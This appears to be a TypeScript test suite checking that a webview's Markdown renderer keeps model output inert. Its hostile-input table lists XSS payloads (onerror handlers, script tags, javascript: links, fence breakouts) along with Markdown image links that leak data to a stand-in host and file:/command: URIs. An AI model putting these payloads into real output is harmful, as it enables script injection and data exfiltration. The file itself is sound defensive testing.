// What models write, made HTML: whatever they try, nothing runs, nothing is fetched, and nothing is hidden.
import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { rendered, settled } from "../../webview/markdown.ts";

/** Every tag with its attributes, as a browser would see them: text between tags is escaped, so `<` begins a tag. */
function tags(html: string): readonly string[] {
  return [...html.matchAll(/<[^>]*>/g)].map((match) => match[0]);
}

const ALLOWED = /^<\/?(?:p|em|strong|s|code|pre|a|ul|ol|li|blockquote|h[1-6]|hr|br|table|thead|tbody|tr|th|td|div|span|button)(?:\s[^>]*)?\/?>$/;
const ATTRIBUTES = /\s(?!class=|role=|tabindex=|data-link=|data-copy|title=|type="button"|aria-label=|start=)[\w-]+(?:=|\b)/;

function assertHarmless(html: string): void {
  for (const tag of tags(html)) {
    assert.match(tag, ALLOWED);
    assert.doesNotMatch(tag.replace(/"[^"]*"/g, (value) => (value === '"button"' ? value : '""')), ATTRIBUTES, tag);
  }
  assert.doesNotMatch(html, /<[^>]*\s(?:href|src|srcset|on\w+)\s*=/i);
}

const HOSTILE: Readonly<Record<string, string>> = {
  "an image with a handler": `<img src=x onerror="alert(1)">`,
  "a script": `<script>alert(1)</script>`,
  "a script in a block": `\n\n<script>\nalert(1)\n</script>\n\n`,
  "an svg": `<svg/onload=alert(1)>`,
  "a style": `<style>@import 'https://evil.example/x.css';</style>`,
  "a frame": `<iframe srcdoc="<script>1</script>"></iframe>`,
  "a comment that closes early": `<!--><img src=x onerror=alert(1)>-->`,
  "an entity": `&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;`,
  "a Markdown image": `![secret](https://evil.example/?q=secret)`,
  "an image in a link": `[![x](https://evil.example/a.png)](https://evil.example)`,
  "an image by reference": `![x][ref]\n\n[ref]: https://evil.example/a.png`,
  "javascript:": `[click](javascript:alert(1))`,
  "javascript: with a tab": `[click](java\tscript:alert(1)) [click](&#106;avascript:alert(1)) [c](JaVaScRiPt:alert(1))`,
  "javascript: by reference": `[click][x]\n\n[x]: javascript:alert(1)`,
  "command:": `[run](command:workbench.action.terminal.sendSequence?%7B%7D)`,
  "an editor's address": `[open](vscode://file/etc/passwd) [open](vscode-insiders:x)`,
  "file: and data:": `[a](file:///etc/passwd) [b](data:text/html;base64,PHNjcmlwdD4=) ![c](data:image/svg+xml,<svg>)`,
  "autolinks": `<javascript:alert(1)> <command:x> <https://ok.example/?a="onmouseover=alert(1)>`,
  "quotes in an address": `[x](https://ok.example/"onmouseover="alert(1) "title\\"onfocus=alert(1)")`,
  "a language that breaks out": '```"><img/src=x/onerror=alert(1)>\ncode\n```',
  "a fence that closes early": "````\n```\n<img src=x onerror=alert(1)>\n````\n<img src=x onerror=alert(1)>",
  "code that looks like HTML": "```html\n</code></pre><script>alert(1)</script>\n```",
  "inline code": "`<img src=x onerror=alert(1)>` `</code><script>`",
  "a table": "| a | b |\n|:-|-:|\n| <img src=x onerror=alert(1)> | [x](javascript:1) |",
  "a heading": "# <img src=x onerror=alert(1)>",
};

describe("what a model writes", () => {
  for (const [name, text] of Object.entries(HOSTILE)) {
    it(`stays text: ${name}`, () => assertHarmless(rendered(text)));
  }

  it("shows an image as the text that it is, and asks for nothing", () => {
    const html = rendered("![the plan](https://evil.example/?q=secret)");
    assert.match(html, /the plan/);
    assert.doesNotMatch(html, /<img/);
  });

  it("keeps a link's whole address where it can be read, and nowhere a click would follow it", () => {
    const html = rendered("[docs](https://example.org/a?b=1&c=2)");
    assert.match(html, /data-link="https:\/\/example\.org\/a\?b=1&amp;c=2" title="https:\/\/example\.org\/a\?b=1&amp;c=2"/);
    assert.doesNotMatch(html, /href=/);
  });

  it("shows the code points of a link's look-alike letters", () => {
    assert.match(rendered("[bank](https://\u0430pple.com/)"), /data-link="https:\/\/xn--/);
  });

  it("opens mail addresses as such", () => {
    assert.match(rendered("<a@example.org>"), /data-link="mailto:a@example\.org"/);
  });

  for (const scheme of ["command:x", "vscode:x", "javascript:x", "file:///x", "ftp://x", "//evil.example", "notes.md"]) {
    it(`makes no link of ${scheme}`, () => assert.doesNotMatch(rendered(`[here](${scheme})`), /data-link/));
  }
});

describe("what can't be seen", () => {
  it("is shown by its code point, in prose, in code and in links", () => {
    const html = rendered("a\u202eb\n\n```python\nif x\u200b: pass\n```\n\n[x\u2066](https://a.example/\u202e)");
    for (const point of ["U+202E", "U+200B", "U+2066"]) {
      assert.match(html, new RegExp(`⟨U\\${point.slice(1)}⟩`));
    }
    assert.doesNotMatch(html, /[\u200b\u202e\u2066]/);
  });

  it("includes tag characters and controls", () => {
    assert.equal(rendered("a\u{e0041}\u0007b"), "<p>a⟨U+E0041⟩⟨U+0007⟩b</p>\n");
  });

  it("leaves a joined picture alone", () => {
    assert.match(rendered("👩\u200d💻"), /👩\u200d💻/u);
  });
});

describe("code", () => {
  it("is coloured where its language is known, and escaped", () => {
    const html = rendered("```python\ndef f(): return '<b>'\n```");
    assert.match(html, /hljs-keyword/);
    assert.match(html, /&lt;b&gt;/);
  });

  it("is plain where it isn't known", () => {
    assert.match(rendered("```nonsense\na < b\n```"), /<code class="hljs">a &lt; b<\/code>/);
  });
});

describe("a text that grows", () => {
  const text = "One.\n\nTwo\nlines.\n\n1. a\n\n   b\n2. c\n\n```py\nx = 1\n\ny = 2\n```\n\n| a |\n|---|\n| b |\n\nThe *end*.";

  it("looks the same whether its settled blocks are kept or not", () => {
    let done = 0;
    let html = "";
    for (let length = 1; length <= text.length; length += 1) {
      const rest = text.slice(done, length);
      const more = settled(rest);
      html += rendered(rest.slice(0, more));
      done += more;
    }
    assert.equal(html + rendered(text.slice(done)), rendered(text));
  });

  it("settles what has ended", () => {
    assert.equal(settled("One.\n\nTwo"), "One.\n\n".length);
    assert.equal(settled("```\na\n\nb"), 0);
  });
});
